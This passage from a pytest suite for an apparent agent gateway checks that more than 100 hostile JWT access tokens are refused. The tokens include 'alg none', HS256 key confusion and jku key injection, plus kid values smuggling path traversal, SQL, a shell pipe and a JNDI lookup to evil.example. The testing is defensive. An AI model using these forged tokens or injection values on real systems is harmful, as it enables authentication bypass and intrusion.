"""Attacks with access tokens: forged, borrowed, twisted, late; and where a good one might leak to (A18, A19)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.gateway import GatewayProcess, call, exchange, key_entry, post, statuses
from tests.token_issuer import AUDIENCE, Issuer, b64, public_jwk, rsa_key, sign, signature
from tests.web import Handler, serving

KEY = "key-of-an-agent-beside-the-issuer"
QUERY = {"query": "SELECT 1"}
OBJECT = {"type": "object"}
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


class House(NamedTuple):
    """A gateway with an issuer of three keys (RSA, EC, Ed25519), and an issuer that belongs to an attacker."""

    gateway: GatewayProcess
    issuer: Issuer
    evil: Issuer
    ec: tuple[str, ec.EllipticCurvePrivateKey]
    ed: tuple[str, ed25519.Ed25519PrivateKey]

    def header(self, **more: Any) -> dict[str, Any]:
        members = {"typ": "at+jwt", "alg": "RS256", "kid": self.issuer.kid} | more
        return {name: value for name, value in members.items() if value is not ...}

    def payload(self, **more: Any) -> bytes:
        return json.dumps(self.issuer.claims(**more)).encode()

    def signed(self, payload: bytes, header: bytes | None = None) -> str:
        """Any bytes, signed by the real issuer."""
        return sign(self.issuer.key, "RS256", header if header is not None else self.header(), payload)

    def forged(self, **header: Any) -> str:
        """Good claims, signed by the attacker's key under whatever header."""
        return sign(rsa_key(1), "RS256", self.header(**header), self.payload())

    def hmac(self, secret: bytes, algorithm: str = "HS256", **header: Any) -> str:
        """Good claims with a MAC: PyJWT would not make one with a public key, so it is made by hand."""
        head = self.header(alg=algorithm, **header)
        signing_input = f"{b64(json.dumps(head).encode())}.{b64(self.payload())}"
        digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[algorithm]
        return f"{signing_input}.{b64(hmac.new(secret, signing_input.encode(), digest).digest())}"

    def with_ec(self, raw: bytes | None = None, **header: Any) -> str:
        """Good claims under the issuer's EC key, with that signature or the right one."""
        kid, key = self.ec
        token = sign(key, "ES256", self.header(alg="ES256", kid=kid) | header, self.payload())
        return token if raw is None else f"{token.rpartition('.')[0]}.{b64(raw)}"


@pytest.fixture(scope="module")
def house() -> Iterator[House]:
    with Issuer() as issuer, Issuer() as evil:
        keys = (ec.generate_private_key(ec.SECP256R1()), ed25519.Ed25519PrivateKey.generate())
        issuer.keys += [public_jwk(keys[0], "ec-key"), public_jwk(keys[1], "ed-key")]
        evil.rotate(rsa_key(1))
        config = {
            "auth": {
                "keys": [key_entry(KEY, agent="keyed")],
                "oauth": {"issuer": issuer.url, "audience": AUDIENCE, "required_scopes": ["tools:call"]},
            },
            "server": {"refusals_per_second": 1_000_000, "log_level": "DEBUG"},
            "containment": {"rate_window_s": 0.001},
        }
        with GatewayProcess(config=config) as gateway:
            yield House(gateway, issuer, evil, ("ec-key", keys[0]), ("ed-key", keys[1]))


Make = Callable[[House], str | bytes]


def claims(**changed: Any) -> Make:
    return lambda house: house.issuer.mint(**changed)


def header(**changed: Any) -> Make:
    return lambda house: house.issuer.mint(changed)


def soon(seconds: float) -> float:
    return time.time() + seconds


def public_pem(house: House) -> bytes:
    return house.issuer.key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)  # type: ignore[no-any-return]


def modulus(house: House) -> bytes:
    return house.issuer.key.public_key().public_numbers().n.to_bytes(256, "big")  # type: ignore[no-any-return]


def cut(house: House, at: int) -> str:
    """The token with its signature cut off after `at` bytes."""
    head, _, last = house.issuer.mint().rpartition(".")
    return f"{head}.{b64(base64.urlsafe_b64decode(last + '==')[:at])}"


def piece(house: House, number: int, change: Callable[[str], str]) -> str:
    parts = house.issuer.mint().split(".")
    parts[number] = change(parts[number])
    return ".".join(parts)


def loose_bits(text: str) -> str:
    """Another spelling of the same bytes: the last character's unused bits set."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(text) % 4, "no unused bits"
    return text[:-1] + alphabet[alphabet.index(text[-1]) + 1]


def swapped(house: House) -> str:
    one, two = house.issuer.mint().split("."), house.issuer.mint(client_id="admin").split(".")
    return ".".join((one[0], two[1], one[2]))


def duplicated(name: str, value: object) -> Make:
    return lambda house: house.signed(house.payload()[:-1] + f", {json.dumps(name)}: {json.dumps(value)}}}".encode())


def duplicate_header(house: House) -> str:
    raw = json.dumps(house.header()).encode()
    return house.signed(house.payload(), raw[:-1] + b', "alg": "RS256"}')


def unencoded(house: House) -> str:
    """RFC 7797: the payload as it is, between the dots."""
    head = b64(json.dumps(house.header(b64=False, crit=["b64"])).encode())
    mark = signature(house.issuer.key, "RS256", f"{head}.".encode() + house.payload())
    return f"{head}..{b64(mark)}"


def nested(house: House) -> str:
    inner = house.issuer.mint()
    return house.signed(inner.encode(), json.dumps(house.header(cty="JWT")).encode())


CORPUS: dict[str, Make] = {
    # for somebody else
    "aud other": claims(aud="https://other.example/mcp"),
    "aud longer": claims(aud=AUDIENCE + ".evil.example"),
    "aud shorter": claims(aud=AUDIENCE.removesuffix("/mcp")),
    "aud slash": claims(aud=AUDIENCE + "/"),
    "aud case": claims(aud=AUDIENCE.upper()),
    "aud http": claims(aud=AUDIENCE.replace("https", "http")),
    "aud words": claims(aud=f"https://other.example {AUDIENCE}"),
    "aud list of others": claims(aud=["https://other.example", AUDIENCE + "x"]),
    "aud list in list": claims(aud=[[AUDIENCE]]),
    "aud object": claims(aud={AUDIENCE: True}),
    "aud wildcard": claims(aud="*"),
    "aud empty": claims(aud=""),
    "aud null": claims(aud=None),
    "aud missing": claims(aud=...),
    "aud twice": duplicated("aud", AUDIENCE),
    # from somebody else
    "iss other": claims(iss="https://issuer.example"),
    "iss slash": lambda house: house.issuer.mint(iss=house.issuer.url + "/"),
    "iss case": lambda house: house.issuer.mint(iss=house.issuer.url.upper()),
    "iss longer": lambda house: house.issuer.mint(iss=house.issuer.url + ".evil.example"),
    "iss list": lambda house: house.issuer.mint(iss=[house.issuer.url]),
    "iss missing": claims(iss=...),
    "evil issuer": lambda house: house.evil.mint(),
    "evil issuer that says it is ours": lambda house: house.evil.mint(iss=house.issuer.url),
    "evil issuer, same kid": lambda house: house.evil.mint({"kid": house.issuer.kid}, iss=house.issuer.url),
    "evil issuer, no kid": lambda house: house.evil.mint({"kid": ...}, iss=house.issuer.url),
    # no signature, or one that everybody can make
    "alg none": lambda house: f"{b64(json.dumps(house.header(alg='none')).encode())}.{b64(house.payload())}.",
    "alg none, signed": lambda house: sign(house.issuer.key, "RS256", house.header(alg="none"), house.payload()),
    "alg None": lambda house: sign(house.issuer.key, "RS256", house.header(alg="None"), house.payload()),
    "alg nOnE": lambda house: f"{b64(json.dumps(house.header(alg='nOnE')).encode())}.{b64(house.payload())}.AA",
    "alg missing": header(alg=...),
    "alg null": header(alg=None),
    "alg empty": header(alg=""),
    "alg list": header(alg=["RS256"]),
    "alg number": header(alg=256),
    "alg case": header(alg="rs256"),
    "alg space": header(alg="RS256 "),
    "alg RS1": header(alg="RS1"),
    "alg not allowed here": lambda house: sign(house.issuer.key, "RS512", house.header(alg="RS512"), house.payload()),
    "HS256 with the public key in PEM": lambda house: house.hmac(public_pem(house)),
    "HS256 with the PEM without its end": lambda house: house.hmac(public_pem(house).strip()),
    "HS256 with the modulus": lambda house: house.hmac(modulus(house)),
    "HS256 with the published key": lambda house: house.hmac(json.dumps(house.issuer.keys[0]).encode()),
    "HS384 with the public key": lambda house: house.hmac(public_pem(house), "HS384"),
    "HS512 with the public key": lambda house: house.hmac(public_pem(house), "HS512"),
    "HS256 with nothing": lambda house: house.hmac(b""),
    "HS256 with a zero byte": lambda house: house.hmac(b"\0", kid="../../../../../../dev/null"),
    "RS256 that is a MAC": lambda house: house.hmac(public_pem(house)).replace(
        b64(json.dumps(house.header(alg="HS256")).encode()), b64(json.dumps(house.header()).encode())
    ),
    # a key by a name that leads elsewhere
    "kid path": lambda house: house.forged(kid="../../../../etc/passwd"),
    "kid file": lambda house: house.forged(kid="file:///etc/ssl/certs/ca-certificates.crt"),
    "kid URL": lambda house: house.forged(kid=house.evil.jwks_url),
    "kid SQL": lambda house: house.forged(kid="x' UNION SELECT 'key' --"),
    "kid command": lambda house: house.forged(kid="|/bin/sleep 10"),
    "kid NUL": lambda house: house.forged(kid=house.issuer.kid + "\0"),
    "kid template": lambda house: house.forged(kid="${jndi:ldap://evil.example/x}{{7*7}}"),
    "kid number": header(kid=1),
    "kid list": lambda house: house.issuer.mint({"kid": [house.issuer.kid]}),
    "kid object": header(kid={"$ne": None}),
    "kid null": header(kid=None),
    "kid empty": header(kid=""),
    "kid long": header(kid="k" * 4000),
    "kid missing where three keys are": lambda house: house.forged(kid=...),
    "kid of the EC key": lambda house: house.issuer.mint({"kid": "ec-key"}),
    "kid of the Ed25519 key, as RSA": lambda house: house.forged(kid="ed-key"),
    "jku": lambda house: house.forged(kid=house.evil.kid, jku=house.evil.jwks_url),
    "jku, no kid": lambda house: house.forged(kid=..., jku=house.evil.jwks_url),
    "x5u": lambda house: house.forged(x5u=house.evil.jwks_url),
    "jwk": lambda house: house.forged(kid="own", jwk=public_jwk(rsa_key(1), "own")),
    "jwk under our kid": lambda house: house.forged(jwk=public_jwk(rsa_key(1), house.issuer.kid)),
    "x5c": lambda house: house.forged(x5c=[base64.b64encode(b"certificate").decode()]),
    # too late, too early, at no time
    "expired": lambda house: house.issuer.mint(exp=soon(-60)),
    "expired long ago": claims(exp=1),
    "exp missing": claims(exp=...),
    "exp text": lambda house: house.issuer.mint(exp=str(int(soon(300)))),
    "exp true": claims(exp=True),
    "exp null": claims(exp=None),
    "exp list": claims(exp=[4_000_000_000]),
    "exp negative": claims(exp=-1),
    "exp huge": claims(exp=1e300),
    "exp beyond 2^53": claims(exp=2**63),
    "exp infinite": lambda house: house.signed(house.payload(exp=1).replace(b'"exp": 1', b'"exp": 1e999')),
    "exp not a number": lambda house: house.signed(house.payload(exp=1).replace(b'"exp": 1', b'"exp": NaN')),
    "exp of many digits": lambda house: house.signed(house.payload(exp=1).replace(b": 1,", b": " + b"9" * 5000 + b",")),
    "exp twice": duplicated("exp", 4_000_000_000),
    "nbf to come": lambda house: house.issuer.mint(nbf=soon(60)),
    "nbf text": claims(nbf="0"),
    "iat to come": lambda house: house.issuer.mint(iat=soon(60)),
    "iat object": claims(iat={}),
    # of nobody
    "no client": claims(client_id=..., sub=...),
    "client list": claims(client_id=["token-bot"]),
    "client null": claims(client_id=None),
    "client URL": claims(client_id="https://app.example/client.json"),
    "client path": claims(client_id="../admin"),
    "client line": claims(client_id="token-bot\n"),
    "client NUL": claims(client_id="token-bot\0"),
    "client not ASCII": claims(client_id="tоken-bot"),
    "client long": claims(client_id="a" * 300),
    "client twice": duplicated("client_id", "admin"),
    "session path": claims(agentgate_session="../../x"),
    "session object": claims(agentgate_session={"id": "x"}),
    "scope object": claims(scope={"tools:call": True}),
    "scope with a line": claims(scope="tools:call\nadmin"),
    # extensions and other kinds of token
    "crit": header(crit=["exp"]),
    "crit empty": header(crit=[]),
    "crit unknown": header(crit=["http://evil.example/x"]),
    "b64 false": header(b64=False),
    "unencoded payload": unencoded,
    "typ of a DPoP proof": header(typ="dpop+jwt"),
    "typ of a logout token": header(typ="logout+jwt"),
    "typ object": header(typ={}),
    "an ID token": claims(aud="token-bot", nonce="n", auth_time=1),
    "nested": nested,
    "JWE": lambda house: f"{house.issuer.mint()}.AAAA.AAAA",
    # another spelling
    "two parts": lambda house: house.issuer.mint().rpartition(".")[0],
    "four parts": lambda house: house.issuer.mint() + ".AAAA",
    "one part": lambda house: house.issuer.mint().replace(".", ""),
    "only dots": lambda _: "..",
    "empty header": lambda house: piece(house, 0, lambda _: ""),
    "empty payload": lambda house: piece(house, 1, lambda _: ""),
    "padding": lambda house: house.issuer.mint() + "==",
    "padding in the middle": lambda house: piece(house, 0, lambda part: part + "=" * (-len(part) % 4 or 4)),
    "standard alphabet": lambda house: piece(house, 2, lambda part: part.replace("-", "+").replace("_", "/") + "+"),
    "loose bits in the signature": lambda house: piece(house, 2, loose_bits),
    "space inside": lambda house: house.issuer.mint().replace(".", " .", 1),
    "tab inside": lambda house: house.issuer.mint().replace(".", ".\t", 1),
    "escaped": lambda house: house.issuer.mint().replace(".", "%2e"),
    "quoted": lambda house: f'"{house.issuer.mint()}"',
    "comma": lambda house: f"{house.issuer.mint()},{house.issuer.mint()}",
    "non-breaking space": lambda house: house.issuer.mint().encode() + b"\xa0",
    "fullwidth": lambda house: house.issuer.mint().replace("e", "ｅ", 1).encode(),
    "byte above 127": lambda house: b"\xff" + house.issuer.mint().encode(),
    "oversized": lambda house: house.issuer.mint(pad="x" * 8000),
    "enormous": lambda _: "e30." + "A" * 50_000 + ".AA",
    "payload list": lambda house: house.signed(b"[" + house.payload() + b"]"),
    "payload text": lambda house: house.signed(json.dumps(house.payload().decode()).encode()),
    "payload null": lambda house: house.signed(b"null"),
    "payload not JSON": lambda house: house.signed(b"iss=x"),
    "payload with a byte order mark": lambda house: house.signed(b"\xef\xbb\xbf" + house.payload()),
    "payload UTF-16": lambda house: house.signed(house.payload().decode().encode("utf-16")),
    "payload not UTF-8": lambda house: house.signed(house.payload().replace(b"user-7", b"user-\xff")),
    "payload with a comment": lambda house: house.signed(house.payload() + b"//"),
    "payload deep": lambda house: house.signed(house.payload()[:-1] + b', "x": ' + b"[" * 900 + b"]" * 900 + b"}"),
    "lone surrogate": lambda house: house.signed(house.payload().replace(b"user-7", rb"\ud800")),
    "header list": lambda house: house.signed(house.payload(), b"[]"),
    "header not JSON": lambda house: house.signed(house.payload(), b"{alg:RS256}"),
    "alg twice": duplicate_header,
    # signatures
    "no signature": lambda house: house.issuer.mint().rpartition(".")[0] + ".",
    "signature cut": lambda house: cut(house, 255),
    "signature of one byte": lambda house: cut(house, 1),
    "signature of zeros": lambda house: piece(house, 2, lambda _: b64(bytes(256))),
    "signature of ones": lambda house: piece(house, 2, lambda _: b64(b"\xff" * 256)),
    "signature longer": lambda house: piece(house, 2, lambda part: b64(base64.urlsafe_b64decode(part + "==") + b"\0")),
    "signature of another token": swapped,
    "payload of another token": lambda house: piece(house, 1, lambda _: b64(house.payload(client_id="admin"))),
    "PSS shown as PKCS1": lambda house: sign(house.issuer.key, "PS256", house.header(), house.payload()),
    "ECDSA of zeros": lambda house: house.with_ec(bytes(64)),
    "ECDSA of the order": lambda house: house.with_ec(P256_ORDER.to_bytes(32, "big") * 2),
    "ECDSA of one and zero": lambda house: house.with_ec(b"\0" * 31 + b"\1" + bytes(32)),
    "ECDSA of nothing": lambda house: house.with_ec(b"\0"),
    "ECDSA in DER": lambda house: house.with_ec(encode_dss_signature(1, 1)),
    "ECDSA too long": lambda house: house.with_ec(bytes(132)),
    "ECDSA as ES384": lambda house: house.with_ec(alg="ES384"),
    "ECDSA as EdDSA": lambda house: house.with_ec(alg="EdDSA"),
    "EdDSA of zeros": lambda house: ".".join(
        (b64(json.dumps(house.header(alg="EdDSA", kid="ed-key")).encode()), b64(house.payload()), b64(bytes(64)))
    ),
    "EdDSA of the identity": lambda house: ".".join(
        (b64(json.dumps(house.header(alg="EdDSA", kid="ed-key")).encode()), b64(house.payload()),
         b64(b"\1" + bytes(63)))
    ),
}  # fmt: skip


def present(gateway: GatewayProcess, token: str | bytes, session: str, path: str = "/tools/call") -> tuple[int, bytes]:
    """A call with this token, byte for byte; the status and everything that was said."""
    raw = token if isinstance(token, bytes) else token.encode()
    body = json.dumps({"session_id": session, "tool_name": "db_query", "arguments": QUERY}).encode()
    sent = post(path, body, "Authorization: Bearer " + raw.decode("latin-1"))
    said = exchange(gateway.port, sent)
    return statuses(said)[0], said


def at_mcp(token: str, arguments: dict[str, Any]) -> bytes:
    """The bytes of a tool call at the MCP door, in the era in which requests stand alone."""
    meta = {f"io.modelcontextprotocol/{name}": value
            for name, value in (("protocolVersion", "2026-07-28"), ("clientCapabilities", {}))}  # fmt: skip
    params = {"name": "db_query", "arguments": arguments, "_meta": meta}
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}).encode()
    protocol = ("MCP-Protocol-Version: 2026-07-28", "Mcp-Method: tools/call", "Mcp-Name: db_query")
    accept = "Accept: application/json, text/event-stream"
    return post("/mcp", body, accept, *protocol, f"Authorization: Bearer {token}")


def in_record(gateway: GatewayProcess, session: str) -> int:
    """Everything that the record has of a session."""
    answer = gateway.admin().get(f"/sessions/{session}/evidence")
    return 0 if answer.status_code == 404 else len(answer.json()["timeline"])


def test_the_corpus_is_large() -> None:
    assert len(CORPUS) > 100


@pytest.mark.parametrize("name", CORPUS)
def test_a_hostile_token_is_refused(house: House, name: str) -> None:
    """A19: 401 on the wire with the challenge of RFC 6750 and RFC 9728; nothing is decided, sent or recorded."""
    token = CORPUS[name](house)
    session = f"hostile-{list(CORPUS).index(name)}"
    before = len(house.evil.asked)
    status, said = present(house.gateway, token, session)
    assert status == 401, said
    assert b'"reason_code":"invalid_token"' in said
    challenge = next(line for line in said.split(b"\r\n") if line.lower().startswith(b"www-authenticate:"))
    assert b'Bearer realm="agentgate", error="invalid_token", error_description="' in challenge
    metadata = b'resource_metadata="https://gate.example.org/.well-known/oauth-protected-resource/mcp"'
    assert metadata in challenge
    assert len(house.evil.asked) == before, "no address within a token is ever asked"
    assert b'success":true' not in said


@pytest.mark.parametrize(
    "name", ["aud other", "alg none", "expired", "jku", "nested", "HS256 with the public key in PEM"]
)
def test_the_mcp_door_refuses_alike(house: House, name: str) -> None:
    said = exchange(house.gateway.port, at_mcp(str(CORPUS[name](house)), QUERY))
    assert statuses(said) == [401]
    assert b'error="invalid_token"' in said


def test_the_mcp_door_takes_the_session_of_the_token(house: House) -> None:
    said = exchange(house.gateway.port, at_mcp(house.issuer.mint(agentgate_session="job-at-mcp"), QUERY))
    assert statuses(said) == [200], said
    assert in_record(house.gateway, "job-at-mcp") == 1


def test_no_token_is_for_a_session_that_a_door_gives_to_another(house: House) -> None:
    """A20: the claim may say what the client asked its issuer for."""
    token = house.issuer.mint(agentgate_session="mcp-newcomer")
    status, said = present(house.gateway, token, "mcp-newcomer")
    assert (status, b'"reason_code":"foreign_session"' in said) == (200, True)
    assert b'"dev.agentgate/reasonCode":"foreign_session"' in exchange(house.gateway.port, at_mcp(token, QUERY))
    assert in_record(house.gateway, "mcp-newcomer") == 0


def test_nothing_of_the_corpus_was_recorded_and_all_of_it_was_counted(house: House) -> None:
    counted = 'agentgate_tokens_refused_total{reason="invalid_token"}'
    before = house.gateway.metric(counted)
    for number, make in enumerate(CORPUS.values()):
        present(house.gateway, make(house), f"counted-{number}")
    assert house.gateway.metric(counted) == before + len(CORPUS)
    sessions = house.gateway.admin().get("/sessions").text
    assert "hostile-" not in sessions
    assert "counted-" not in sessions
    assert "Traceback" not in house.gateway.stderr
    assert house.gateway.metric("agentgate_faults_total") == 0


@pytest.mark.parametrize("algorithm", ["RS256", "PS256", "ES256", "EdDSA"])
def test_what_the_corpus_twists_is_good_when_it_is_straight(house: House, algorithm: str) -> None:
    """Without this the corpus would pass a gateway that refuses everything."""
    kid, key = {"ES256": house.ec, "EdDSA": house.ed}.get(algorithm, (house.issuer.kid, house.issuer.key))
    token = sign(key, algorithm, house.header(alg=algorithm, kid=kid), house.payload())
    status, said = present(house.gateway, token, f"straight-{algorithm}")
    assert (status, b'"success":true' in said) == (200, True)
    assert in_record(house.gateway, f"straight-{algorithm}") == 1


def test_a_token_without_the_scope_is_403_and_says_which(house: House) -> None:
    status, said = present(house.gateway, house.issuer.mint(scope="other"), "scopeless")
    assert status == 403
    assert b'error="insufficient_scope"' in said
    assert b'scope="tools:call"' in said
    assert in_record(house.gateway, "scopeless") == 0


def test_a_token_opens_no_control_route(house: House) -> None:
    """A22: whatever an issuer writes into it."""
    token = house.issuer.mint(client_id="admin", roles=["admin"], scope="tools:call admin", role="admin", admin=True)
    client = house.gateway.client(Authorization=f"Bearer {token}")
    for method, path in (
        ("POST", "/system/pause"),
        ("GET", "/kills"),
        ("POST", "/kills/x/release"),
        ("GET", "/sessions"),
    ):
        assert client.request(method, path).status_code == 403


def test_a_token_of_one_session_opens_no_other(house: House) -> None:
    """A20: the issuer's word goes over the caller's."""
    token = house.issuer.mint(agentgate_session="job-1")
    assert present(house.gateway, token, "job-1")[0] == 200
    status, said = present(house.gateway, token, "job-2")
    assert (status, b"foreign_session" in said) == (403, True)
    assert in_record(house.gateway, "job-2") == 0


def test_another_tokens_session_is_foreign(house: House) -> None:
    """A20: sessions belong to the agent, with a token as with a key."""
    assert present(house.gateway, house.issuer.mint(client_id="one"), "ones-own")[0] == 200
    _, said = present(house.gateway, house.issuer.mint(client_id="two"), "ones-own")
    assert b'"reason_code":"foreign_session"' in said
    keyed = call(house.gateway.client(KEY), "db_query", QUERY, session="ones-own").json()
    assert keyed["reason_code"] == "foreign_session"


def test_a_token_is_a_bearers_and_nothing_else(house: House) -> None:
    """Not a key, not a parameter, not a cookie (RFC 6750 §2); and not two of them."""
    token = house.issuer.mint()
    body = {"session_id": "smuggled", "tool_name": "db_query", "arguments": QUERY}
    client = house.gateway.client()
    for more in (
        {"headers": {"X-API-Key": token}},
        {"headers": {"Cookie": f"access_token={token}"}},
        {"params": {"access_token": token}},
        {"headers": {"Authorization": f"DPoP {token}"}},
        {"headers": {"Authorization": f"Bearer {token}", "X-API-Key": KEY}},
    ):
        assert client.post("/tools/call", json=body, **more).status_code == 401, more  # type: ignore[arg-type]
    assert in_record(house.gateway, "smuggled") == 0


def test_nobody_is_local_beside_an_issuer(house: House) -> None:
    answer = call(house.gateway.client(), "db_query", QUERY, session="keyless")
    assert answer.status_code == 401
    challenge = answer.headers["WWW-Authenticate"]
    assert "resource_metadata=" in challenge
    assert "error=" not in challenge, "nothing was presented (RFC 6750 §3.1)"
    assert call(house.gateway.client(KEY), "db_query", QUERY, session="keyed").json()["success"] is True


def test_clients_find_the_issuer(house: House) -> None:
    """RFC 9728, for anybody; and 404 where no issuer is configured."""
    for path in ("/.well-known/oauth-protected-resource", "/.well-known/oauth-protected-resource/mcp"):
        document = house.gateway.client().get(path).json()
        assert document["resource"] == AUDIENCE
        assert document["authorization_servers"] == [house.issuer.url]
        assert document["scopes_supported"] == ["tools:call"]
        assert document["bearer_methods_supported"] == ["header"]


# --- the issuer's keys, over the wire ---------------------------------------------------------------------------------


class Recorder(Handler):
    """An upstream that remembers every byte that it is sent."""

    seen: bytearray

    def do_GET(self) -> None:
        body = self.given()
        self.seen += self.raw_requestline + self.headers.as_bytes() + body
        self.say(200, json.dumps({"headers": dict(self.headers), "body": body.decode("latin-1")}).encode())

    do_POST = do_GET  # noqa: N815 - the name that the library calls


@pytest.fixture
def upstream() -> Iterator[tuple[str, bytearray]]:
    handler = type("ThisRecorder", (Recorder,), {"seen": bytearray()})
    with serving(handler) as url:
        yield url, handler.seen


def spellings(token: str) -> set[bytes]:
    """The token, what it is made of, and how it could be wrapped."""
    _, payload, mark = token.split(".")
    found = {token, payload, mark, quote(token), base64.b64encode(token.encode()).decode()[:-4], token.encode().hex()}
    decoded = base64.urlsafe_b64decode(mark + "==")
    return {one.encode() for one in found} | {decoded, token[::-1].encode()}


def test_a_token_goes_nowhere(upstream: tuple[str, bytearray], tmp_path: Path) -> None:
    """A18: not upstream, into the log, a metric, a file or a word of the process, taken or refused, new or known."""
    url, seen = upstream
    with Issuer() as issuer:
        config = {
            "auth": {"oauth": {"issuer": issuer.url, "audience": AUDIENCE}},
            # with neither agents' keys nor an issuer it would not start on such an address
            "server": {"log_level": "DEBUG", "host": "0.0.0.0", "hosts": ["0.0.0.0"]},
            "upstreams": {"echo": {"kind": "http", "base_url": url}},
            "tools": {
                name: {"upstream": "echo", "access": access, "method": "POST", "path": "/x", "input_schema": OBJECT}
                for name, access in (("db_query", "read"), ("db_insert", "write"))
            },
        }
        data_dir = tmp_path / "data"
        with GatewayProcess(config=config, data_dir=data_dir) as gateway:
            tokens = [issuer.mint(), issuer.mint()]
            said = [_use(gateway, tokens[0], f"s-{number}") for number in range(2)]
            assert b'"success":true' in said[0]
            assert seen, "the upstream was called"
            issuer.rotate()
            tokens.append(issuer.mint())
            said.append(_use(gateway, tokens[-1], "s-2"))
            assert b'"success":true' in said[-1], "the new key's first token is taken at once"
            bad = [
                tokens[1],  # its key is withdrawn
                issuer.mint(exp=1),
                issuer.mint(aud="https://other.example"),
                issuer.mint({"kid": "made-up"}),
            ]
            for token in bad:
                answer = _use(gateway, token, "s-3")
                assert statuses(answer) == [401] * 3
                said.append(answer)
            issuer.down = True
            tokens.append(issuer.mint())
            said.append(_use(gateway, tokens[-1], "s-4"))
            assert b'"success":true' in said[-1], "an issuer that is down takes nobody along whose key is known"
            said.append(gateway.client().get("/metrics").content)
            said.append(gateway.admin().get("/sessions/s-2/evidence").content)
            said.append(gateway.stderr.encode() + "".join(gateway.stdout).encode())
        said.append(gateway.stderr.encode())
        files = b"".join(path.read_bytes() for path in data_dir.rglob("*") if path.is_file())
        assert b"token-bot" in files, "the agent is on record"
        for token in tokens + bad:
            for spelling in spellings(token):
                assert spelling not in seen
                assert spelling not in files
                assert all(spelling not in words for words in said)


def _use(gateway: GatewayProcess, token: str, session: str) -> bytes:
    """A read and a write that waits for approval, and a look at MCP; everything that was answered."""
    said = exchange(gateway.port, at_mcp(token, {"c": "d"}))
    for tool in ("db_query", "db_insert"):
        body = json.dumps({"session_id": session, "tool_name": tool, "arguments": {"a": "b"}}).encode()
        said += exchange(gateway.port, post("/tools/call", body, f"Authorization: Bearer {token}"))
    return said


def test_without_keys_to_check_with_nothing_is_taken_and_nobody_sent_away(tmp_path: Path) -> None:
    """An issuer that was never reached: 503 with Retry-After, and no challenge that would make clients log in anew."""
    with Issuer() as issuer:
        issuer.down = True
        oauth = {"issuer": issuer.url, "audience": AUDIENCE}
        config = {"auth": {"oauth": oauth, "keys": [key_entry(KEY, agent="keyed")]}}
        with GatewayProcess(config=config) as gateway:
            client = gateway.client(Authorization=f"Bearer {issuer.mint()}")
            answer: httpx.Response = call(client, "db_query", QUERY, session="blind")
            assert answer.status_code == 503
            assert answer.json()["reason_code"] == "identity_unavailable"
            assert "WWW-Authenticate" not in answer.headers
            assert int(answer.headers["Retry-After"]) > 0
            assert gateway.metric('agentgate_health_status{dependency="token_issuer"}') == 0
            assert gateway.metric('agentgate_tokens_refused_total{reason="identity_unavailable"}') == 1
            assert "issuer's keys" in gateway.stderr
            assert call(gateway.client(KEY), "db_query", QUERY, session="keyed").json()["success"] is True
            assert in_record(gateway, "blind") == 0


# --- several issuers, people, roles and tenants -----------------------------------------------------------------------

Claims = dict[str, Any]
PERSON: Claims = {"client_id": "console", "sub": "17", "email": "ann@example.org", "org": "acme"}


class Estate(NamedTuple):
    """A gateway that takes people's tokens of one issuer, and a partner's agents of another."""

    gateway: GatewayProcess
    issuer: Issuer
    partner: Issuer

    def person(self, **changed: Any) -> str:
        return self.issuer.mint(**{**PERSON, "groups": ["sre"], **changed})


@pytest.fixture(scope="module")
def estate() -> Iterator[Estate]:
    with Issuer() as issuer, Issuer() as partner:
        partner.rotate(rsa_key(1))
        people = {
            "issuer": issuer.url,
            "audience": AUDIENCE,
            "claims": {"person": "email", "roles": "groups", "tenant": "org", "tier": "plan"},
            "people_clients": ["console"],
            "roles": {"sre": ["operator"], "root": ["admin"], "leads": ["approver"]},
            "all_tenants": ["everywhere"],
        }
        theirs = {
            "issuer": partner.url,
            "audience": "https://gate.example.org/partner",
            "tenant": "partner",
            "prefix": "partner.",
            "claims": {"roles": "groups"},
            "roles": {"sre": ["operator"]},
        }
        config = {
            "auth": {"oauth": [people, theirs]},
            "server": {"refusals_per_second": 1_000_000, "log_level": "DEBUG"},
        }
        with GatewayProcess(config=config) as gateway:
            yield Estate(gateway, issuer, partner)


def asks(estate: Estate, token: str, path: str = "/kills") -> int:
    return estate.gateway.client(Authorization=f"Bearer {token}").get(path).status_code


NO_PERSON: dict[str, Claims] = {
    "client of an agent": {"client_id": "token-bot"},
    "client of an agent that says azp of the people's": {"client_id": "token-bot", "azp": "console"},
    "azp of an agent": {"azp": "token-bot"},
    "client as a list": {"client_id": ["console"]},
    "client in another case": {"client_id": "Console"},
    "client with a line": {"client_id": "console\n"},
    "client with a zero width space": {"client_id": "console\u200b"},
    "an actor": {"act": {"sub": "token-bot"}},
    "an actor that is nobody": {"act": None},
    "an actor that is text": {"act": "token-bot"},
    "no name": {"email": ...},
    "a name that is a list": {"email": ["ann@example.org"]},
    "a name that is an object": {"email": {"value": "ann@example.org"}},
    "a name with a plus": {"email": "ann+admin@example.org"},
    "a name with a slash": {"email": "../ann"},
    "a name of letters that look alike": {"email": "аnn@example.org"},
    "no tenant": {"org": ...},
    "a tenant that is nothing": {"org": None},
    "two tenants": {"org": ["acme", "default"]},
    "a tenant with a path": {"org": "acme/../default"},
    "a tenant with a wildcard": {"org": "*"},
    "a tier that is a number": {"plan": -1},
    "a tier that is nothing": {"plan": None},
    "groups as an object": {"groups": {"sre": True}},
    "groups in groups": {"groups": [["sre"]]},
    "groups with a number": {"groups": ["sre", 1]},
    "groups with nothing": {"groups": ["sre", None]},
    "groups as nothing": {"groups": None},
    "groups as true": {"groups": True},
    "groups as JSON": {"groups": '["sre"]'},
    "groups with commas": {"groups": "sre,root"},
    "groups with spaces": {"groups": "sre root"},
    "groups in another case": {"groups": ["SRE", "Root"]},
